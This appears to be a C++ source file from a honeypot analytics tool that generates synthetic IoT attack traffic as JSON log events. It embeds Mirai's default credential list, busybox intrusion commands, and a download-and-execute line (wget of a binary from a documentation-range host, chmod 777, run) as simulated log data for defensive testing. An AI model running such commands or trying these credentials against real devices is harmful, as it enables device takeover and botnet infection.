#include "intel/simulate/traffic_generator.h"

#include <fmt/format.h>

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <unordered_map>

#include "core/clock.h"
#include "intel/session_class.h"
#include "sensor/registry/protocol_registry.h"

namespace mitsu::intel {
namespace {

constexpr std::int64_t kDayUs = 86'400'000'000;

// Where IoT attacks come from, roughly as honeypot operators report it.
const std::vector<std::pair<std::string, double>> kCountryWeights{
    {"CN", 24}, {"US", 11}, {"BR", 8}, {"RU", 6}, {"IN", 6}, {"VN", 5}, {"TW", 4}, {"KR", 4},
    {"ID", 3},  {"EG", 3},  {"IR", 3}, {"TR", 3}, {"DE", 2}, {"NL", 2}, {"MX", 2}, {"TH", 2},
    {"AR", 2},  {"JP", 2},  {"FR", 2}, {"GB", 2}, {"UA", 1}, {"PK", 1}, {"ZA", 1}, {"IT", 1}};

struct Weighted {
  const char* name;
  double weight;
};

const char* pick(std::mt19937_64& random, std::initializer_list<Weighted> items) {
  double total = 0;
  for (const Weighted& w : items) {
    total += w.weight;
  }
  double x = std::uniform_real_distribution<double>(0, total)(random);
  for (const Weighted& w : items) {
    if ((x -= w.weight) < 0) {
      return w.name;
    }
  }
  return items.begin()->name;
}

struct Credential {
  const char* user;
  const char* password;
};
// Mirai's list, plus the example vendor profile's default (etc/vendor-watchlist.example.toml),
// so simulated data has a targeted view.
constexpr Credential kCredentials[] = {
    {"root", "xc3511"},   {"root", "vizxv"},     {"admin", "admin"},     {"root", "admin"},
    {"root", "888888"},   {"root", "default"},   {"support", "support"}, {"root", "123456"},
    {"user", "user"},     {"admin", "1234"},     {"root", "root"},       {"guest", "12345"},
    {"root", "juantech"}, {"admin", "password"}, {"root", "acmeroot"},   {"root", "anko"}};

struct PersonaInfo {
  const char* device_type;
  const char* vendor;
  const char* model;
};
constexpr PersonaInfo kPersonas[] = {{"camera", "Acme", "IPC-2000"},
                                     {"recorder", "Acme", "BDR-500"},
                                     {"intercom", "Acme", "DI-10"},
                                     {"nas", "Northwind", "NS-220"},
                                     {"router", "Contoso", "RT-AC68"}};

// The protocol as the sensor registers it: the same name, transport and well-known ports, so
// simulated and live statistics count the same things.
const sensor::ProtocolInfo& protocol_info(std::string_view protocol) {
  const sensor::ProtocolInfo* info = sensor::ProtocolRegistry::instance().find(protocol);
  if (info == nullptr) {
    std::fprintf(stderr, "simulate: protocol '%s' is not registered\n",
                 std::string(protocol).c_str());
    std::abort();  // the generator's own tables name it: a programming error
  }
  return *info;
}

// Mostly the protocol's first well-known port, sometimes its second (telnet 2323, http 8080).
int port_for(std::mt19937_64& random, std::string_view protocol) {
  const std::vector<int>& ports = protocol_info(protocol).default_ports;
  bool second = std::uniform_int_distribution<int>(0, 3)(random) == 0;
  return second && ports.size() > 1 ? ports[1] : ports.at(0);
}

std::string hex(std::mt19937_64& random, int words) {
  std::string out;
  for (int i = 0; i < words; ++i) {
    out += fmt::format("{:016x}", random());
  }
  return out;
}

}  // namespace

struct TrafficGenerator::Plan {
  std::int64_t start_us = 0;
  std::string protocol;
  int port = 0;
  const PersonaInfo* persona = nullptr;
  SessionClass session_class = SessionClass::kScan;
  const Source* source = nullptr;
  const std::string* site = nullptr;
  std::string rule;  // exploit sessions
  bool interactive = false;
};

TrafficGenerator::TrafficGenerator(SimulationOptions options, GeoResolver& geo)
    : options_(std::move(options)), geo_(geo), random_(options_.seed) {
  sensor::register_builtin_protocols();
  build_address_pools();
}

void TrafficGenerator::build_address_pools() {
  std::mt19937_64 probe(options_.seed ^ 0x9e3779b97f4a7c15ULL);
  std::map<std::string, double> wanted(kCountryWeights.begin(), kCountryWeights.end());
  std::unordered_map<std::uint32_t, std::vector<Source>> by_asn;
  std::vector<Source> elsewhere;  // the rest of the world
  constexpr std::size_t kPerCountry = 256;
  for (int i = 0; i < 600'000; ++i) {
    std::uint32_t a = static_cast<std::uint32_t>(probe());
    std::uint32_t top = a >> 24;
    if (top == 0 || top == 10 || top == 127 || top >= 224 || (a >> 16) == 0xc0a8 ||
        (a >> 20) == 0xac1) {
      continue;  // unrouted and private space
    }
    std::string ip = fmt::format("{}.{}.{}.{}", top, (a >> 16) & 255, (a >> 8) & 255, a & 255);
    const GeoInfo& where = geo_.lookup(ip);
    Source source{ip, where.country};
    if (wanted.contains(where.country)) {
      auto& pool = pools_[where.country];
      if (pool.size() < kPerCountry) {
        pool.push_back(source);
      }
    } else if (elsewhere.size() < kPerCountry) {
      elsewhere.push_back(source);
    }
    if (where.asn != 0 && by_asn[where.asn].size() < 64) {
      by_asn[where.asn].push_back(source);
    }
    if (i % 1000 == 999 && pools_.size() == wanted.size() &&
        std::all_of(pools_.begin(), pools_.end(),
                    [](const auto& p) { return p.second.size() >= 64; })) {
      break;
    }
  }
  std::vector<double> weights;
  for (const auto& [country, pool] : pools_) {
    pool_countries_.push_back(country);
    weights.push_back(wanted[country]);
  }
  if (!elsewhere.empty()) {
    pools_["*"] = std::move(elsewhere);
    pool_countries_.push_back("*");
    weights.push_back(pools_.size() == 1 ? 1.0 : 8.0);
  }
  country_pick_ = std::discrete_distribution<std::size_t>(weights.begin(), weights.end());
  // The botnet behind injected peaks: the best-covered autonomous system.
  std::uint32_t best = 0;
  for (const auto& [asn, sources] : by_asn) {
    if (best == 0 || sources.size() > by_asn[best].size() ||
        (sources.size() == by_asn[best].size() && asn < best)) {
      best = asn;
    }
  }
  botnet_ = best != 0 ? by_asn[best] : pools_.begin()->second;
}

const TrafficGenerator::Source& TrafficGenerator::pick_source(std::mt19937_64& random, int botnet) {
  if (botnet != 0 && !botnet_.empty()) {
    return botnet_[std::uniform_int_distribution<std::size_t>(0, botnet_.size() - 1)(random)];
  }
  const auto& pool = pools_[pool_countries_[country_pick_(random)]];
  // Attackers repeat: a few addresses of each pool are far busier than the rest.
  std::size_t n = pool.size();
  std::size_t index = std::min(
      n - 1, static_cast<std::size_t>(std::exponential_distribution<double>(8.0 / n)(random)));
  return pool[index];
}

std::string TrafficGenerator::sample_for_delivery(std::int64_t day) {
  bool fresh = samples_.empty() ||
               std::uniform_real_distribution<double>(0, 1)(random_) < options_.new_sample_share;
  if (!fresh) {
    // Recent samples are delivered more than old ones.
    std::size_t n = samples_.size();
    std::size_t back = std::min(
        n - 1, static_cast<std::size_t>(std::exponential_distribution<double>(0.02)(random_)));
    return samples_[n - 1 - back].sha256;
  }
  SimulatedSample s;
  s.sha256 = hex(random_, 4);
  s.first_day = day;
  s.family = pick(random_, {{"Mirai", 55},
                            {"Gafgyt", 18},
                            {"Mozi", 10},
                            {"Tsunami", 5},
                            {"Hajime", 4},
                            {"XMRig", 5},
                            {"", 3}});
  bool pc = s.family == "XMRig";
  s.arch = pc ? pick(random_, {{"x86_64", 80}, {"i386", 20}})
              : pick(random_, {{"arm", 34},
                               {"mips", 22},
                               {"mipsel", 16},
                               {"aarch64", 6},
                               {"x86_64", 8},
                               {"powerpc", 5},
                               {"sh4", 5},
                               {"m68k", 2},
                               {"sparc", 2}});
  s.target = pc ? "pc" : "iot";
  s.known = std::uniform_real_distribution<double>(0, 1)(random_) < 0.7;
  if (!s.family.empty()) {
    std::string family = s.family;
    std::transform(family.begin(), family.end(), family.begin(), ::tolower);
    int n = std::uniform_int_distribution<int>(0, 11)(random_);
    s.domains.push_back(fmt::format("cnc.{}-{}.test", family, n));
    if (n % 3 == 0) {
      s.domains.push_back(fmt::format("update.{}-{}.test", family, n));
    }
  }
  samples_.push_back(s);
  ++truth_.new_samples_by_day[day];
  return s.sha256;
}

void TrafficGenerator::write_session(const Plan& plan,
                                     const std::function<void(std::string&&)>& emit) {
  std::string session_id = ids_.next_at(plan.start_us / 1000).to_string();
  int src_port = std::uniform_int_distribution<int>(1024, 65535)(random_);
  std::string head = fmt::format(
      R"("observer":{{"name":"sim-{}","geo":{{"name":"{}"}}}},"network":{{"protocol":"{}","transport":"{}"}},"source":{{"ip":"{}","port":{}}},"destination":{{"port":{}}})",
      *plan.site, *plan.site, plan.protocol, protocol_info(plan.protocol).transport,
      plan.source->ip, src_port, plan.port);
  std::string persona = fmt::format(
      R"("session":{{"id":"{}"}},"persona":{{"device_type":"{}","vendor":"{}","model":"{}"}})",
      session_id, plan.persona->device_type, plan.persona->vendor, plan.persona->model);
  std::int64_t t = plan.start_us;
  std::int64_t day = plan.start_us / kDayUs;
  std::int64_t count = 0;
  auto event = [&](std::string_view action, std::string_view event_extra = {},
                   std::string_view mitsu_extra = {}, std::string_view top_extra = {}) {
    ++count;
    if (!emit) {
      return;  // counting only
    }
    std::string id = ids_.next_at(t / 1000).to_string();
    emit(fmt::format(
        R"({{"@timestamp":"{}","event":{{"id":"{}","action":"{}"{}}},"mitsu":{{"schema":1,{}{}}},{}{}}})",
        format_timestamp_us(t), id, action, event_extra, persona, mitsu_extra, head, top_extra));
  };
  auto step = [&](std::int64_t lo_ms, std::int64_t hi_ms) {
    t += 1000 * std::uniform_int_distribution<std::int64_t>(lo_ms, hi_ms)(random_);
  };
  auto login = [&](bool success) {
    const Credential& c = kCredentials[std::uniform_int_distribution<std::size_t>(
        0, std::size(kCredentials) - 1)(random_)];
    event("login.attempt", fmt::format(R"(,"outcome":"{}")", success ? "success" : "failure"),
          fmt::format(R"(,"login":{{"password":"{}"}})", c.password),
          fmt::format(R"(,"user":{{"name":"{}"}})", c.user));
    step(300, 2500);
  };
  auto command = [&](std::string_view line) {
    event("command", {}, {}, fmt::format(R"(,"process":{{"command_line":"{}"}})", line));
    if (plan.interactive) {
      step(1500, 9000);
    } else {
      step(1, 60);
    }
  };
  auto download = [&]() {
    std::string sha = sample_for_delivery(day);
    event(
        "file.download", R"(,"outcome":"success")", {},
        fmt::format(
            R"(,"url":{{"full":"http://198.51.100.{}/bins/x"}},"file":{{"hash":{{"sha256":"{}"}},"size":{}}})",
            std::uniform_int_distribution<int>(1, 254)(random_), sha,
            std::uniform_int_distribution<int>(20'000, 400'000)(random_)));
    step(200, 3000);
  };
  auto http_request = [&](std::string_view method, std::string_view path) {
    event("http.request", {}, {},
          fmt::format(R"(,"http":{{"request":{{"method":"{}"}}}},"url":{{"path":"{}"}})", method,
                      path));
    step(5, 200);
  };

  event("session.open");
  step(5, 500);
  switch (plan.session_class) {
    case SessionClass::kScan:
      if (plan.protocol == "http") {
        http_request("GET", "/");
      } else if (plan.protocol == "ssdp") {
        event("ssdp.request", {}, R"(,"ssdp":{"request_bytes":94,"replies":1,"reply_bytes":180})",
              R"(,"http":{"request":{"method":"M-SEARCH"}})");
      }
      break;
    case SessionClass::kBruteForce: {
      int tries = std::uniform_int_distribution<int>(1, 8)(random_);
      for (int i = 0; i < tries; ++i) {
        login(false);
      }
      break;
    }
    case SessionClass::kIntrusion:
      login(false);
      login(true);
      command("enable");
      command("system");
      command("sh");
      command("/bin/busybox MITSU");
      break;
    case SessionClass::kExploit:
      http_request("POST", "/cgi-bin/x");
      event("exploit", {}, {}, fmt::format(R"(,"rule":{{"id":"{}"}})", plan.rule));
      break;
    case SessionClass::kMalwareDelivery:
      if (plan.protocol == "http") {
        http_request("POST", "/cgi-bin/x");
        event("exploit", {}, {}, fmt::format(R"(,"rule":{{"id":"{}"}})", plan.rule));
      } else {
        login(true);
        command("cd /tmp || cd /var/run");
        command("wget http://198.51.100.7/bins/x.arm; chmod 777 x.arm; ./x.arm");
      }
      download();
      break;
  }
  event("session.close");
  truth_.sessions_by_country[{day, plan.source->country}]++;
  truth_.sessions_by_protocol[{day, plan.protocol}]++;
  truth_.sessions_by_class[{day, std::string(to_string(plan.session_class))}]++;
  truth_.events_by_day[day] += count;
  truth_.events += static_cast<std::uint64_t>(count);
  ++truth_.sessions;
}

void TrafficGenerator::run(const std::function<void(std::string&&)>& emit) {
  std::vector<const CveEntry*> rules;  // exploits with a signature
  for (const CveEntry& e : options_.catalog) {
    if (!e.rule.empty()) {
      rules.push_back(&e);
    }
  }
  std::normal_distribution<double> noise(0, options_.noise);
  std::uniform_real_distribution<double> unit(0, 1);
  for (int d = 0; d < options_.days; ++d) {
    std::int64_t day = options_.first_day + d;
    double growth = std::pow(1 + options_.yearly_growth, d / 365.0);
    double weekly = 1 + 0.06 * std::sin(2 * M_PI * static_cast<double>((day + 3) % 7) / 7);
    double base = options_.sessions_per_day * growth * weekly;
    auto sessions = static_cast<std::int64_t>(std::llround(base * std::exp(noise(random_))));
    std::vector<Plan> plans;
    auto add_plan = [&](SessionClass c, std::string protocol, int botnet, std::string rule = {},
                        int port = 0) {
      Plan p;
      p.start_us = day * kDayUs + static_cast<std::int64_t>(unit(random_) * (kDayUs - 60e6));
      p.session_class = c;
      p.protocol = std::move(protocol);
      p.port = port != 0 ? port : port_for(random_, p.protocol);
      p.persona = &kPersonas[std::uniform_int_distribution<std::size_t>(
          0, std::size(kPersonas) - 1)(random_)];
      p.source = &pick_source(random_, botnet);
      p.site = &options_.sites[std::uniform_int_distribution<std::size_t>(
          0, options_.sites.size() - 1)(random_)];
      p.rule = std::move(rule);
      p.interactive = c == SessionClass::kIntrusion && unit(random_) < 0.1;
      plans.push_back(std::move(p));
    };
    // Old exploits keep circulating: any signature disclosed before the day.
    auto random_rule = [&]() -> const CveEntry* {
      std::vector<const CveEntry*> known;
      for (const CveEntry* e : rules) {
        if (e->published_day < day) {
          known.push_back(e);
        }
      }
      if (known.empty()) {
        return nullptr;
      }
      return known[std::uniform_int_distribution<std::size_t>(0, known.size() - 1)(random_)];
    };
    for (std::int64_t i = 0; i < sessions; ++i) {
      const char* c = pick(random_, {{"scan", 70},
                                     {"brute_force", 21},
                                     {"intrusion", 3},
                                     {"exploit", 4},
                                     {"malware_delivery", 2}});
      std::string_view cls = c;
      if (cls == "scan") {
        add_plan(SessionClass::kScan,
                 pick(random_, {{"telnet", 40},
                                {"http", 22},
                                {"ssh", 14},
                                {"ssdp", 6},
                                {"smb", 6},
                                {"ftp", 6},
                                {"tftp", 6}}),
                 0);
      } else if (cls == "brute_force") {
        add_plan(SessionClass::kBruteForce,
                 pick(random_, {{"telnet", 60}, {"ssh", 30}, {"ftp", 10}}), 0);
      } else if (cls == "intrusion") {
        add_plan(SessionClass::kIntrusion, pick(random_, {{"telnet", 70}, {"ssh", 30}}), 0);
      } else {
        const CveEntry* rule = random_rule();
        bool delivery = cls == "malware_delivery";
        if (rule != nullptr && (!delivery || unit(random_) < 0.3)) {
          add_plan(delivery ? SessionClass::kMalwareDelivery : SessionClass::kExploit, "http", 0,
                   rule->rule, rule->ports.empty() ? 80 : rule->ports.front());
        } else if (delivery) {
          add_plan(SessionClass::kMalwareDelivery, "telnet", 0);
        } else {
          add_plan(SessionClass::kScan, "http", 0);
        }
      }
    }
    // Exploit bursts in the two weeks after each disclosure.
    if (options_.disclosure_bursts) {
      for (const CveEntry* e : rules) {
        std::int64_t after = day - e->published_day;
        if (after < 2 || after > 15) {
          continue;
        }
        auto extra = static_cast<std::int64_t>(
            std::llround(base * 1.0 * std::exp(-static_cast<double>(after - 2) / 3.0)));
        for (std::int64_t i = 0; i < extra; ++i) {
          bool delivery = unit(random_) < 0.3;
          add_plan(delivery ? SessionClass::kMalwareDelivery : SessionClass::kExploit, "http", 0,
                   e->rule, e->ports.empty() ? 80 : e->ports.front());
        }
      }
    }
    for (const InjectedPeak& peak : options_.peaks) {
      if (peak.day != day) {
        continue;
      }
      if (sensor::ProtocolRegistry::instance().find(peak.protocol) == nullptr) {
        std::fprintf(stderr, "simulate: peak of unknown protocol '%s' skipped (known: %s)\n",
                     peak.protocol.c_str(), sensor::ProtocolRegistry::instance().names().c_str());
        continue;
      }
      auto extra = static_cast<std::int64_t>(std::llround(base * peak.factor));
      for (std::int64_t i = 0; i < extra; ++i) {
        bool logins = peak.protocol == "telnet" || peak.protocol == "ssh" || peak.protocol == "ftp";
        add_plan(logins && unit(random_) < 0.6 ? SessionClass::kBruteForce : SessionClass::kScan,
                 peak.protocol, 1);
      }
    }
    std::sort(plans.begin(), plans.end(),
              [](const Plan& a, const Plan& b) { return a.start_us < b.start_us; });
    for (const Plan& plan : plans) {
      write_session(plan, emit);
    }
  }
}

}  // namespace mitsu::intel
